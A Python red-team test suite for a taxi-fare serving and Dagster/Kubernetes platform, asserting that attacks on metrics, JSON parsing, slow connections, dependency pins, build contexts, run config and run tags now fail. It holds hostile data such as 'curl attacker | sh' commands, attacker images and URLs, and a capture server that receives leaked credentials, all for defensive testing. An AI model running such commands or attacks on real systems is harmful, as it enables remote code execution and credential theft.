"""Red team: every attack of issue #25, run for real and asserted fixed.

The fare service attacks run against ``taxi-platform serve`` (``bentoml serve`` of a built Bento, API keys on, one
worker) on loopback, as an anonymous client would: random and long paths, pathological JSON, disconnects,
slow connections. The launch-surface attacks run against the deployment's own configuration (the Helm values,
the manifests) and against Dagster launching a run with an overriding config; the model-requirements attack
builds a Bento from a model that pins what it should not. ``docs/deploy.md``'s threat model lists each attack
with its test here.
"""

from __future__ import annotations

import json
import os
import random
import re
import socket
import string
import threading
import time
from concurrent.futures import ThreadPoolExecutor
from http.client import HTTPConnection
from pathlib import Path

import pytest
import requests
from hypothesis import given, settings
from hypothesis import strategies as st

from taxi_platform.devtools.loopback import free_port
from taxi_platform.serving import bento_build, bento_context, bento_requirements, bento_store
from taxi_platform.serving.http_edge import BODY_TIMEOUT, HEADER_TIMEOUT, KEEP_ALIVE_TIMEOUT
from taxi_platform.serving.quotes import EXAMPLE_QUOTE
from taxi_platform_tests.serving.test_service import _stop, _wait_ready, start_server
from taxi_platform_tests.support.sample_champion import ensure_sample_champion

pytestmark = pytest.mark.slow

HOSTILE_PATHS = 10_000
KEY = "red-team-key-" + os.urandom(8).hex()


class Server:
    def __init__(self, url: str, proc, log: Path, data_dir: Path) -> None:
        self.url = url
        self.proc = proc
        self.log = log
        self.data_dir = data_dir
        self.host, port = url.removeprefix("http://").split(":")
        self.port = int(port)

    def log_since(self, offset: int) -> str:
        return self.log.read_bytes()[offset:].decode("utf-8", "replace")

    def log_size(self) -> int:
        return self.log.stat().st_size

    def metrics(self) -> str:
        resp = requests.get(f"{self.url}/metrics", timeout=30)
        assert resp.status_code == 200
        return resp.text

    def multiproc_dir(self) -> Path:
        found = [p for p in self.data_dir.rglob("prometheus_multiproc_dir") if p.is_dir()]
        assert len(found) == 1, found
        return found[0]


@pytest.fixture(scope="module")
def server(tmp_path_factory) -> Server:
    import hashlib

    champion = ensure_sample_champion(tmp_path_factory.getbasetemp() / "sample-champion")
    work = tmp_path_factory.mktemp("red-team")
    data_dir = work / "data"
    home = data_dir / "bentoml"
    info = bento_build.champion_info(champion.tracking_uri)
    bento_store.import_champion(home, info, champion.tracking_uri)
    bento_build.build_bento(home, info)
    keys_file = work / "api-keys"
    keys_file.write_text(f"red-team:{hashlib.sha256(KEY.encode()).hexdigest()}\n")
    port = free_port()
    log = work / "server.log"
    env = {
        **os.environ,
        "TAXI_DATA_DIR": str(data_dir),
        "MLFLOW_TRACKING_URI": champion.tracking_uri,
        "TAXI_PREDICTION_LOG": "off",
        "TAXI_API_KEYS_FILE": str(keys_file),
        "TAXI_RATE_LIMIT": "0",  # no rate limit: the attacks below send thousands of requests
    }
    proc, url = start_server(env, port, work, log)
    try:
        _wait_ready(url, proc, log)
        yield Server(url, proc, log, data_dir)
    finally:
        _stop(proc)


def _auth() -> dict[str, str]:
    return {"Content-Type": "application/json", "Authorization": f"Bearer {KEY}"}


def _series(metrics: str) -> set[str]:
    """The series of a Prometheus text exposition: every sample's name and labels."""
    return {line.rsplit(" ", 1)[0] for line in metrics.splitlines() if line and not line.startswith("#")}


def _dir_bytes(path: Path) -> int:
    return sum(p.stat().st_size for p in path.iterdir() if p.is_file())


def _hostile_path(rng: random.Random, i: int) -> str:
    alphabet = string.ascii_letters + string.digits + "-._~"
    length = rng.choice((8, 40, 300)) if i % 2 else rng.randint(3000, 6000)
    return "/" + "".join(rng.choices(alphabet, k=length))


def _send_paths(server: Server, paths: list[str]) -> list[int]:
    conn = HTTPConnection(server.host, server.port, timeout=30)
    statuses = []
    for path in paths:
        method = "GET" if len(statuses) % 3 else "POST"
        conn.request(
            method,
            path,
            body=b"{}" if method == "POST" else None,
            headers={"Content-Type": "application/json"},
        )
        resp = conn.getresponse()
        resp.read()
        statuses.append(resp.status)
    conn.close()
    return statuses


# --- 1. bounded metrics -----------------------------------------------------------------------------------------


def test_10000_hostile_paths_leave_the_metric_series_and_their_files_the_same_size(server):
    """Issue #25: 30 random paths added 600 series; 500 long ones grew the multiprocess directory from 288 KB to
    48 MB (the pod's emptyDir is 64 MiB: eviction) and /metrics to 50 MB."""
    assert (
        requests.post(f"{server.url}/predict", json=EXAMPLE_QUOTE, headers=_auth(), timeout=30).status_code
        == 200
    )
    requests.get(f"{server.url}/livez", timeout=10)
    before = server.metrics()
    dir_before = _dir_bytes(server.multiproc_dir())
    rng = random.Random(25)
    paths = [_hostile_path(rng, i) for i in range(HOSTILE_PATHS)]
    with ThreadPoolExecutor(4) as pool:
        statuses = [
            s for chunk in pool.map(lambda k: _send_paths(server, paths[k::4]), range(4)) for s in chunk
        ]
    assert set(statuses) == {404}, set(statuses)
    after = server.metrics()
    assert _series(after) == _series(before), sorted(_series(after) - _series(before))[:5]
    # Same series, same values but for counters of the scrape itself: the exposition's size moves by a few bytes.
    assert abs(len(after) - len(before)) < 200, (len(before), len(after))
    assert _dir_bytes(server.multiproc_dir()) == dir_before
    # The 404s are counted, under one series.
    pattern = rf"^taxi_fare_unknown_route_requests_total(\{{[^}}]*\}})? {HOSTILE_PATHS}(\.0)?$"
    assert re.search(pattern, after, re.M), [line for line in after.splitlines() if "unknown_route" in line]
    # The real routes still answer.
    assert requests.get(f"{server.url}/docs.json", timeout=10).status_code == 200
    assert requests.get(f"{server.url}/", timeout=10).status_code == 200


# --- 4. clean failure modes -------------------------------------------------------------------------------------


def _deep(n: int) -> bytes:
    return b"[" * n + b"]" * n


PATHOLOGICAL_BODIES = {
    "100,000-deep array": _deep(100_000),
    "100,000-deep object": b'{"a":' * 100_000 + b"1" + b"}" * 100_000,
    "deep array in a batch": b'{"quotes": ' + _deep(50_000) + b"}",
    "deep array as a field": b'{"pickup_zone": ' + _deep(50_000) + b"}",
    "5,000-digit number": b'{"quotes": [' + b"9" * 5000 + b"]}",
    "NaN and Infinity": b'{"quotes": [{"pickup_zone": NaN, "dropoff_zone": Infinity}]}',
    "lone surrogate": b'{"service": "\\ud800"}',
    "not UTF-8": b'{"service": "\xff\xfe"}',
    "truncated": b'{"quotes": [{"pickup_zone": 1',
}


@pytest.mark.parametrize("endpoint", ["/predict", "/predict_batch"])
@pytest.mark.parametrize("name", list(PATHOLOGICAL_BODIES))
def test_pathological_json_is_a_400_without_a_traceback(server, endpoint, name):
    start = server.log_size()
    resp = requests.post(
        f"{server.url}{endpoint}", data=PATHOLOGICAL_BODIES[name], headers=_auth(), timeout=30
    )
    assert resp.status_code == 400, (resp.status_code, resp.text[:300])
    time.sleep(0.3)
    logged = server.log_since(start)
    assert "Traceback" not in logged and "ERROR" not in logged, logged[-2000:]


def test_a_client_that_disconnects_mid_body_is_an_info_line_not_an_error(server):
    start = server.log_size()
    body = json.dumps({"quotes": [EXAMPLE_QUOTE] * 2000}).encode()
    head = (
        f"POST /predict_batch HTTP/1.1\r\nHost: {server.host}\r\nContent-Type: application/json\r\n"
        f"Authorization: Bearer {KEY}\r\nContent-Length: {len(body)}\r\n\r\n"
    ).encode()
    for _ in range(3):
        with socket.create_connection((server.host, server.port), timeout=10) as sock:
            sock.sendall(head + body[: len(body) // 2])
            time.sleep(0.3)
    time.sleep(1.0)
    logged = server.log_since(start)
    assert "Traceback" not in logged and "ERROR" not in logged, logged[-2000:]
    assert "disconnected" in logged, logged[-2000:]
    assert (
        requests.post(f"{server.url}/predict", json=EXAMPLE_QUOTE, headers=_auth(), timeout=30).status_code
        == 200
    )


def _closed_after(
    sock: socket.socket, trickle: bytes = b"", every: float = 0.5, limit: float = 90.0
) -> float:
    """Seconds until the server closes ``sock`` (recv returns b"" or resets), sending ``trickle`` one byte every
    ``every`` seconds meanwhile; ``limit`` if it never does."""
    start = time.monotonic()
    sock.settimeout(every)
    sent = 0
    while time.monotonic() - start < limit:
        try:
            data = sock.recv(65536)
            if not data:
                return time.monotonic() - start
            continue  # a response (e.g. 504): keep waiting for the close
        except TimeoutError:
            pass
        except OSError:
            return time.monotonic() - start
        if sent < len(trickle):
            try:
                sock.sendall(trickle[sent : sent + 1])
            except OSError:
                return time.monotonic() - start
            sent += 1
    return limit


def test_slow_connections_are_closed_at_their_deadlines(server):
    """Header, idle and body deadlines, with raw sockets: a connection that sends nothing, one that trickles its
    request head, one that idles after a response, one that trickles its body. All four run at once."""
    head = f"POST /predict HTTP/1.1\r\nHost: {server.host}\r\nContent-Type: application/json\r\n"
    head += f"Authorization: Bearer {KEY}\r\n"
    body = json.dumps(EXAMPLE_QUOTE).encode()
    results: dict[str, float] = {}

    def silent() -> None:
        with socket.create_connection((server.host, server.port)) as sock:
            results["nothing sent"] = _closed_after(sock)

    def trickled_head() -> None:
        with socket.create_connection((server.host, server.port)) as sock:
            results["trickled head"] = _closed_after(sock, trickle=(head * 20).encode())

    def idle() -> None:
        with socket.create_connection((server.host, server.port)) as sock:
            sock.sendall(f"GET /livez HTTP/1.1\r\nHost: {server.host}\r\n\r\n".encode())
            assert sock.recv(4096).startswith(b"HTTP/1.1 200")
            results["idle after a response"] = _closed_after(sock)

    def trickled_body() -> None:
        with socket.create_connection((server.host, server.port)) as sock:
            sock.sendall(f"{head}Content-Length: {len(body) * 100}\r\n\r\n".encode())
            results["trickled body"] = _closed_after(sock, trickle=body * 100, every=0.5)

    threads = [threading.Thread(target=f) for f in (silent, trickled_head, idle, trickled_body)]
    for t in threads:
        t.start()
    for t in threads:
        t.join()
    slack = 3.0
    assert HEADER_TIMEOUT - 0.5 <= results["nothing sent"] <= HEADER_TIMEOUT + slack, results
    assert HEADER_TIMEOUT - 0.5 <= results["trickled head"] <= HEADER_TIMEOUT + slack, results
    assert KEEP_ALIVE_TIMEOUT - 0.5 <= results["idle after a response"] <= KEEP_ALIVE_TIMEOUT + slack, results
    assert BODY_TIMEOUT - 0.5 <= results["trickled body"] <= BODY_TIMEOUT + slack, results


# --- 3. lock-only model requirements ----------------------------------------------------------------------------

HOSTILE_REQUIREMENTS = {
    "numpy @ https://example.invalid/numpy-2.4.6-cp311-none-any.whl": "not name==version",
    "numpy==1.26.0": "conflicts with the lock's numpy==",
    "left-pad-evil==1.0.0": "left-pad-evil is not a package of the Bento's lock",
    "--extra-index-url https://example.invalid/simple": "not name==version",
    "-r other.txt": "not name==version",
    "numpy[dev]==2.4.6": "not name==version",
    "numpy==2.4.6; python_version > '3'": "not name==version",
    "numpy>=2": "not name==version",
}


def test_a_model_cannot_change_the_images_dependencies(tmp_path):
    """Issue #25: the model's requirements.txt overrode the lock (``numpy @ https://…`` replaced the pin, unknown
    packages were appended). Now each hostile line fails the real build, named; the model's own locked pins
    build as before."""
    champion = ensure_sample_champion(tmp_path.parent / "sample-champion-reqs")
    home = tmp_path / "bentoml"
    info = bento_build.champion_info(champion.tracking_uri)
    bento_store.import_champion(home, info, champion.tracking_uri)
    stored = bento_store.model_path(home, info.store_tag) / "mlflow_model" / "requirements.txt"
    original = stored.read_text()
    locked = {bento_requirements.requirement_name(p): p for p in bento_requirements.locked_requirements()}
    assert all(locked.get(bento_requirements.requirement_name(line)) == line for line in original.split()), (
        original
    )
    stored.write_text(original.rstrip("\n") + "\n" + "\n".join(HOSTILE_REQUIREMENTS) + "\n")
    with pytest.raises(bento_store.ServingBuildError) as refused:
        bento_build.build_bento(home, info)
    message = str(refused.value)
    for line, reason in HOSTILE_REQUIREMENTS.items():
        assert repr(line) in message, (line, message)
        assert reason in message, (reason, message)
    assert not list((home / "bentos").glob("*/*/bento.yaml")), "a Bento was built from hostile requirements"
    stored.write_text(original)  # the model's own pins are the lock's: it builds
    build = bento_build.build_bento(home, info)
    assert set(bento_requirements.locked_requirements()) <= set(
        build.requirements
    )  # (+ bentoml, added by BentoML)
    assert not any(bento_requirements.requirement_name(r) == "left-pad-evil" for r in build.requirements)


_NAMES = st.sampled_from(["numpy", "pandas", "scikit-learn", "mlflow", "evilpkg", "NumPy", "scikit_learn"])
_VERSIONS = st.sampled_from(["2.4.6", "1.0", "3.17.2", "0.0.1a1", "99"])


@settings(max_examples=300, deadline=None)
@given(
    name=_NAMES,
    version=_VERSIONS,
    prefix=st.sampled_from(["", " ", "-e ", "--index-url=x "]),
    suffix=st.sampled_from(["", " ", " @ https://x/y.whl", ";sys_platform=='linux'", "[extra]", ".post1"]),
)
def test_only_a_locked_pin_passes(name, version, prefix, suffix):
    """Any requirement line passes only when it is ``name==version`` of a locked package at its locked version."""
    packages = ["numpy==2.4.6", "pandas==2.3.3", "scikit-learn==1.9.1", "mlflow==3.17.2"]
    line = f"{prefix}{name}=={version}{suffix}"
    locked = {bento_requirements.requirement_name(p): p.split("==")[1] for p in packages}
    exact = prefix in ("", " ") and suffix in ("", " ")
    ok = exact and locked.get(bento_requirements.normalize(name)) == version
    if ok:
        bento_requirements.check_model_requirements(packages, ["# comment", "", line])
    else:
        with pytest.raises(bento_store.ServingBuildError, match=re.escape(repr(line.strip()))):
            bento_requirements.check_model_requirements(packages, [line])


def test_the_build_context_is_never_a_directory_someone_else_made(tmp_path, monkeypatch):
    """Issue #25: from a wheel, the staged build context was ``$TMPDIR/taxi-platform-bento-context-<fingerprint>``,
    reused whenever it held a ``bento/service.py`` — another local user could plant one. Now it is a fresh
    ``mkdtemp`` (mode 0700) per process."""
    import stat
    import tempfile

    monkeypatch.setattr(tempfile, "tempdir", str(tmp_path))
    monkeypatch.setattr(bento_context, "checkout_root", lambda: None)  # as from an installed wheel
    monkeypatch.setattr(bento_context, "_STAGED_CONTEXT", [], raising=False)
    probe = bento_context.stage_build_context(tmp_path / "probe")
    fingerprint = bento_context.source_fingerprint(probe)
    planted = tmp_path / f"taxi-platform-bento-context-{fingerprint[:12]}"
    (planted / "bento").mkdir(parents=True)
    (planted / "bento" / "service.py").write_text("import os; os.system('curl attacker | sh')\n")
    root = bento_context.repo_root()
    assert root != planted
    assert stat.S_IMODE(root.stat().st_mode) == 0o700
    assert (root / "bento" / "service.py").read_text() == (probe / "bento" / "service.py").read_text()
    assert bento_context.repo_root() == root  # staged once per process


# --- 2. the launch surface: run config cannot redirect secrets or data ------------------------------------------


class _Capture:
    """An HTTP server on loopback that records every request's path and headers (an attacker's endpoint)."""

    def __init__(self) -> None:
        from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

        seen = self.requests = []

        class Handler(BaseHTTPRequestHandler):
            def _answer(self) -> None:
                seen.append((self.command, self.path, dict(self.headers)))
                body = b"{}"
                self.send_response(404)
                self.send_header("Content-Length", str(len(body)))
                self.end_headers()
                self.wfile.write(body)

            do_GET = do_POST = do_HEAD = _answer

            def log_message(self, *args) -> None:
                pass

        self.server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        self.thread = threading.Thread(target=self.server.serve_forever, daemon=True)

    def __enter__(self) -> _Capture:
        self.thread.start()
        return self

    def __exit__(self, *exc) -> None:
        self.server.shutdown()
        self.server.server_close()


def _launch(asset_key: str, run_config: dict):
    """Materialize one asset of the platform's own definitions (its resources, its code) with ``run_config``."""
    import dagster as dg

    from taxi_platform.definitions import build_definitions

    defs = build_definitions()
    asset = defs.resolve_assets_def(asset_key)
    return dg.materialize(
        [asset], run_config=run_config, raise_on_error=False
    )  # with the resources it is bound to


@pytest.fixture
def deployed_env(tmp_path, monkeypatch):
    """A deployed instance's environment: its MLflow user and password, its lake and source, resource config
    locked (TAXI_LOCK_RESOURCE_CONFIG=true, as the Helm values set)."""
    monkeypatch.setenv("TAXI_DATA_DIR", str(tmp_path / "data"))
    monkeypatch.setenv("MLFLOW_TRACKING_URI", f"sqlite:///{tmp_path / 'mlflow.db'}")
    monkeypatch.setenv("MLFLOW_TRACKING_USERNAME", "dagster")
    monkeypatch.setenv("MLFLOW_TRACKING_PASSWORD", "the-dagster-users-mlflow-password")
    monkeypatch.setenv("TLC_BASE_URL", "http://127.0.0.1:9")  # the deployment's source (nothing listens)
    monkeypatch.setenv("TAXI_LOCK_RESOURCE_CONFIG", "true")
    return tmp_path


def _failure(result) -> str:
    events = [e for e in result.all_events if e.is_failure]
    return "\n".join(e.event_specific_data.error.to_string() for e in events if e.event_specific_data)


@pytest.mark.parametrize(
    ("asset_key", "resource", "field"),
    [
        ("fare_service", "mlflow", "tracking_uri"),
        ("taxi_zones", "tlc", "base_url"),
        ("taxi_zones", "lake", "root"),
        ("fare_service", "bento_store", "bento_home"),
    ],
)
def test_a_run_cannot_point_a_resource_somewhere_else(deployed_env, asset_key, resource, field):
    """Issue #25: a UI user launching with ``mlflow.tracking_uri`` at a capture server received the ``dagster``
    MLflow user's password (``Authorization: Basic``). With the deployment's lock the run fails at resource setup
    naming the field, and the capture server sees nothing."""
    with _Capture() as capture:
        value = capture.url if field != "root" and field != "bento_home" else str(deployed_env / "elsewhere")
        result = _launch(asset_key, {"resources": {resource: {"config": {field: value}}}})
    assert not result.success
    message = _failure(result)
    assert f"{resource}.{field}=" in message and "TAXI_LOCK_RESOURCE_CONFIG" in message, message
    assert capture.requests == []
    assert not (deployed_env / "elsewhere").exists()


@pytest.mark.parametrize(
    ("resource", "field", "value"),
    [("tlc", "verify_md5", False), ("tlc", "max_bytes", 1 << 40), ("tlc", "deadline_seconds", 1e9)],
)
def test_a_run_cannot_loosen_the_download_checks(deployed_env, resource, field, value):
    result = _launch("taxi_zones", {"resources": {resource: {"config": {field: value}}}})
    assert not result.success
    assert f"{resource}.{field}=" in _failure(result)


def test_without_the_lock_the_override_reaches_the_server_with_the_password(deployed_env, monkeypatch):
    """The attack itself, where the lock is off (a local instance): the MLflow client sends the password to
    whatever ``mlflow.tracking_uri`` the run names. Deployments set TAXI_LOCK_RESOURCE_CONFIG=true."""
    monkeypatch.setenv("TAXI_LOCK_RESOURCE_CONFIG", "false")
    with _Capture() as capture:
        _launch("fare_service", {"resources": {"mlflow": {"config": {"tracking_uri": capture.url}}}})
    assert any(h.get("Authorization", "").startswith("Basic ") for _, _, h in capture.requests), (
        capture.requests
    )


def test_a_run_may_repeat_the_deployments_own_values(deployed_env):
    from taxi_platform.core.settings import load_settings
    from taxi_platform.defs.resources import LOCKED_FIELDS, RESOURCES, refuse_locked_overrides

    settings = load_settings()
    for key, fields in LOCKED_FIELDS.items():
        same = RESOURCES[key].model_copy(
            update={name: deployed(settings) for name, deployed in fields.items()}
        )
        refuse_locked_overrides(same, key, settings)  # no error


# --- 2b. the instance config: run-level Kubernetes config, Pod Security, egress ---------------------------------

ROOT = Path(__file__).resolve().parents[2]
HELM_VALUES = ROOT / "deploy" / "helm" / "dagster-values.yaml"
PLATFORM = ROOT / "deploy" / "k8s" / "platform"
_CHART_KEYS = {  # the chart's camelCase keys -> the K8sRunLauncher's (as it renders runK8sConfig)
    "containerConfig": "container_config",
    "podSpecConfig": "pod_spec_config",
    "podTemplateSpecMetadata": "pod_template_spec_metadata",
    "jobSpecConfig": "job_spec_config",
    "jobMetadata": "job_metadata",
    "namespace": "namespace",
}


def _helm() -> dict:
    import yaml

    return yaml.safe_load(HELM_VALUES.read_text())


def _launcher_allowlist() -> dict:
    launcher = _helm()["runLauncher"]["config"]["k8sRunLauncher"]
    return {_CHART_KEYS[k]: v for k, v in launcher["onlyAllowUserDefinedK8sConfigFields"].items()}


HOSTILE_RUN_TAGS = {
    "its own command": {"container_config": {"command": ["sh", "-c", "curl attacker | sh"]}},
    "its own image": {"container_config": {"image": "attacker/image:latest"}},
    "its own env": {
        "container_config": {"env": [{"name": "MLFLOW_TRACKING_URI", "value": "http://attacker"}]}
    },
    "a host path": {"pod_spec_config": {"volumes": [{"name": "host", "host_path": {"path": "/"}}]}},
    "another service account": {"pod_spec_config": {"service_account_name": "deployer"}},
    "an init container": {"pod_spec_config": {"init_containers": [{"name": "x", "image": "busybox"}]}},
    "host networking": {"pod_spec_config": {"host_network": True}},
    "privileged": {"container_config": {"security_context": {"privileged": True}}},
    "job annotations": {"job_metadata": {"annotations": {"a": "b"}}},
}


@pytest.mark.parametrize("attack", list(HOSTILE_RUN_TAGS))
def test_a_run_tag_cannot_choose_what_a_run_pod_executes(attack):
    """Issue #25: the K8sRunLauncher honoured any ``dagster-k8s/config`` run tag. Dagster's own check, with the
    allow-list of the Helm values, refuses each of these at launch."""
    from dagster import DagsterRun
    from dagster_k8s.container_context import K8sContainerContext

    tags = {"dagster-k8s/config": json.dumps(HOSTILE_RUN_TAGS[attack])}
    run = DagsterRun(job_name="__ASSET_JOB", run_id="red-team", tags=tags)

    class Launcher:  # the attributes create_for_run reads from a K8sRunLauncher, as the Helm values set them
        image_pull_policy = "IfNotPresent"
        image_pull_secrets = None
        service_account_name = "dagster"
        env_config_maps = env_secrets = env_vars = volume_mounts = volumes = []
        labels = {}
        job_namespace = "dagster"
        resources = scheduler_name = security_context = run_k8s_config = None
        only_allow_user_defined_k8s_config_fields = _launcher_allowlist()
        only_allow_user_defined_env_vars = None

    with pytest.raises(Exception, match="violated the allowed list"):
        K8sContainerContext.create_for_run(run, Launcher(), include_run_tags=True)


def test_what_the_user_deployment_passes_to_runs_is_allowed():
    """includeConfigInLaunchedRuns passes the user deployment's pod security context, node selector and
    tolerations to its runs: the allow-list keeps those (else every run would be refused)."""
    from dagster_k8s.container_context import K8sContainerContext
    from dagster_k8s.job import UserDefinedDagsterK8sConfig

    inherited = UserDefinedDagsterK8sConfig.from_dict(
        {
            "pod_spec_config": {
                "security_context": {"run_as_non_root": True, "run_as_user": 10001},
                "node_selector": {"cloud.google.com/compute-class": "Balanced"},
                "tolerations": [{"key": "k", "operator": "Exists"}],
            }
        }
    )
    K8sContainerContext(run_k8s_config=inherited).validate_user_k8s_config_for_run(
        _launcher_allowlist(), None
    )


def _restricted(pod: dict, container: dict) -> list[str]:
    """What the restricted Pod Security Standard would refuse in a pod/container security context."""
    problems = []
    if not (pod.get("runAsNonRoot") or container.get("runAsNonRoot")):
        problems.append("runAsNonRoot")
    if (pod.get("runAsUser") or container.get("runAsUser") or 1) == 0:
        problems.append("runAsUser 0")
    if container.get("allowPrivilegeEscalation") is not False:
        problems.append("allowPrivilegeEscalation")
    if container.get("capabilities", {}).get("drop") != ["ALL"]:
        problems.append("capabilities.drop ALL")
    seccomp = (pod.get("seccompProfile") or container.get("seccompProfile") or {}).get("type")
    if seccomp not in ("RuntimeDefault", "Localhost"):
        problems.append("seccompProfile")
    if container.get("privileged"):
        problems.append("privileged")
    return problems


def test_the_dagster_namespace_enforces_restricted_and_every_dagster_pod_complies():
    import yaml

    kustomization = yaml.safe_load((PLATFORM / "kustomization.yaml").read_text())
    namespaces = [
        d
        for name in kustomization["resources"]
        for d in yaml.safe_load_all((PLATFORM / name).read_text())
        if d and d["kind"] == "Namespace"
    ]
    (dagster,) = [n for n in namespaces if n["metadata"]["name"] == "dagster"]
    labels = dagster["metadata"]["labels"]
    assert labels["pod-security.kubernetes.io/enforce"] == "restricted"
    values = _helm()
    (deployment,) = values["dagster-user-deployments"]["deployments"]
    run = values["runLauncher"]["config"]["k8sRunLauncher"]["runK8sConfig"]
    pods = {
        "code server": (deployment["podSecurityContext"], deployment["securityContext"]),
        "webserver": (
            values["dagsterWebserver"]["podSecurityContext"],
            values["dagsterWebserver"]["securityContext"],
        ),
        "daemon": (values["dagsterDaemon"]["podSecurityContext"], values["dagsterDaemon"]["securityContext"]),
        "run pods": (run["podSpecConfig"]["securityContext"], run["containerConfig"]["securityContext"]),
    }
    assert {name: _restricted(*contexts) for name, contexts in pods.items()} == dict.fromkeys(pods, [])


def test_dagster_egress_reaches_only_the_hosts_it_needs():
    """Issue #25: Dagster's egress allowed any host on 443, so a redirected client could reach a capture server.
    Now: no ipBlock to the internet, 443 only to the control plane (daemon and webserver) and, by name, to Google
    APIs and the TLC source the deployment uses."""
    import fnmatch
    from urllib.parse import urlparse

    import yaml

    from taxi_platform.core.settings import load_settings

    docs = [d for d in yaml.safe_load_all((PLATFORM / "networkpolicies-dagster.yaml").read_text()) if d]
    peers = [
        peer
        for d in docs
        if d["kind"] == "NetworkPolicy"
        for rule in d["spec"].get("egress", [])
        for peer in rule.get("to", [])
    ]
    cidrs = {p["ipBlock"]["cidr"] for p in peers if "ipBlock" in p}
    assert cidrs == {
        "CLOUD_SQL_PRIVATE_IP/32",
        "CONTROL_PLANE_IP/32",
        "169.254.169.252/32",
        "169.254.169.254/32",
    }
    (fqdn,) = [d for d in docs if d["kind"] == "FQDNNetworkPolicy"]
    assert fqdn["spec"]["podSelector"] == {}
    (rule,) = fqdn["spec"]["egress"]
    assert rule["ports"] == [{"protocol": "TCP", "port": 443}]
    patterns = [m.get("name") or m["pattern"] for m in rule["matches"]]

    def allowed(host: str) -> bool:
        return any(fnmatch.fnmatchcase(host, p) and p.count(".") == host.count(".") for p in patterns)

    env = {e["name"]: e.get("value") for e in _helm()["dagster-user-deployments"]["deployments"][0]["env"]}
    source = {k: v for k, v in env.items() if k == "TLC_BASE_URL"}  # the deployment's source (or the default)
    tlc_host = urlparse(load_settings(source).tlc_base_url).hostname
    assert allowed(tlc_host) and allowed("storage.googleapis.com") and allowed("oauth2.googleapis.com")
    for host in (
        "attacker.example",
        "evil.googleapis.com.attacker.example",
        "pypi.org",
        "raw.githubusercontent.com",
    ):
        assert not allowed(host), host


def test_the_helm_values_lock_resource_config_for_the_code_server_and_every_run():
    env = {e["name"]: e.get("value") for e in _helm()["dagster-user-deployments"]["deployments"][0]["env"]}
    assert env["TAXI_LOCK_RESOURCE_CONFIG"] == "true"
    deployment = _helm()["dagster-user-deployments"]["deployments"][0]
    assert deployment["includeConfigInLaunchedRuns"]["enabled"] is True  # run pods inherit that env


# --- 4b. the prediction-log queue is bounded in bytes -----------------------------------------------------------


def test_a_stalled_log_drops_and_counts_records_instead_of_growing(monkeypatch, caplog):
    """Issue #25: with stdout stalled, 10,000 queued 10k-quote records (~4 GB) fit the 10,000-request cap and
    the pod was OOM-killed. Now the queue holds at most 64 MiB; the rest is dropped, counted and warned about,
    and a request never waits for the writer."""
    import logging
    import sys

    import numpy as np

    from taxi_platform.serving.prediction_log import PredictionLog

    bound = 64 << 20  # the default max_pending_bytes

    read_end, write_end = os.pipe()  # nobody reads: the writer blocks once the pipe's buffer is full
    stalled = os.fdopen(write_end, "w")
    monkeypatch.setattr(sys, "stdout", stalled)
    n = 10_000
    columns = {
        "pickup_datetime": np.full(n, np.datetime64("2024-03-05T08:15:00", "s")),
        "pickup_zone": np.full(n, 132),
        "dropoff_zone": np.full(n, 230),
        "passenger_count": np.ones(n, dtype=int),
        "service": np.array(["yellow"] * n),
    }
    fares = [70.0] * n
    plog = PredictionLog(None, stdout=True, flush_interval=0.01)
    slowest = 0.0
    peak = 0
    with caplog.at_level(logging.WARNING, logger="taxi_platform.serving.prediction_log"):
        for i in range(10_000):
            start = time.perf_counter()
            plog.record("predict_batch", f"r-{i}", "3", columns, fares)
            slowest = max(slowest, time.perf_counter() - start)
            peak = max(peak, getattr(plog, "pending_bytes", 0))
    try:
        assert plog.dropped >= 9_900, plog.dropped  # a handful fit in 64 MiB, the pipe took a few
        assert 0 < peak <= bound, peak
        assert slowest < 0.05, slowest
        warnings = [
            r for r in caplog.records if r.levelno == logging.WARNING and "dropping records" in r.message
        ]
        assert len(warnings) == 1, [r.message for r in caplog.records]  # once per interval, not per record
    finally:
        os.close(read_end)  # the blocked write fails; the writer thread ends
        plog._closed = True


# --- 4c. supply chain and CI secrets ----------------------------------------------------------------------------


def _uv_lock_versions() -> dict[str, set[str]]:
    """Every version uv.lock holds per package (it may hold several: one per Python-version fork)."""
    import tomllib

    versions: dict[str, set[str]] = {}
    for package in tomllib.loads((ROOT / "uv.lock").read_text())["package"]:
        if "version" in package:
            versions.setdefault(bento_requirements.normalize(package["name"]), set()).add(package["version"])
    return versions


def test_the_mlflow_image_installs_only_hashed_pins_of_the_lock():
    """Issue #25: the MLflow image ran ``uv pip install "mlflow[auth]==…" "psycopg2-binary>=2.9,<3" …``: no
    lock, no hashes, whatever the index served that day. Now every package is pinned with its hashes, at
    uv.lock's version, and installed with --require-hashes --no-deps."""
    text = (ROOT / "deploy" / "mlflow-requirements.txt").read_text()
    entries = re.findall(
        r"^([A-Za-z0-9._-]+)==(\S+) \\\n((?:    --hash=sha256:[0-9a-f]{64}(?: \\)?\n)+)", text, re.M
    )
    requirement_lines = [line for line in text.splitlines() if line and not line.startswith((" ", "#"))]
    assert len(entries) == len(requirement_lines) > 50, requirement_lines[:5]
    locked = _uv_lock_versions()
    names = {bento_requirements.normalize(name): version for name, version, _ in entries}
    assert {"mlflow", "flask-wtf", "psycopg2-binary", "google-cloud-storage"} <= set(names)
    differing = {n: (v, locked[n]) for n, v in names.items() if n in locked and v not in locked[n]}
    assert differing == {}
    dockerfile = (ROOT / "deploy" / "Dockerfile.mlflow").read_text()
    installs = re.findall(r"(?:pip|uv pip) install[^\n]*", dockerfile)
    assert installs == [
        "pip install --no-cache-dir --require-hashes --no-deps -r /tmp/mlflow-requirements.txt \\"
    ]
    assert f"ARG MLFLOW_VERSION={names['mlflow']}" in dockerfile


def test_the_smoke_test_key_is_a_production_environment_secret():
    """Issue #25: the smoke-test key was documented as a repository secret, readable by a workflow on any
    branch. It is read only by the deploy job, which runs in the ``production`` environment, and the docs say to
    store it there."""
    import yaml

    workflows = ROOT / ".github" / "workflows"
    for path in workflows.glob("*.yml"):
        for name, job in (yaml.safe_load(path.read_text()).get("jobs") or {}).items():
            if "FARE_SERVICE_SMOKE_API_KEY" in json.dumps(job):
                assert (path.name, job.get("environment")) == ("deploy.yml", "production"), (path.name, name)
    docs = (ROOT / "docs" / "deploy.md").read_text()
    assert "repository secret\n`FARE_SERVICE_SMOKE_API_KEY`" not in docs
    assert re.search(r"`FARE_SERVICE_SMOKE_API_KEY`[^.]*environment secret of `production`", docs), "docs"
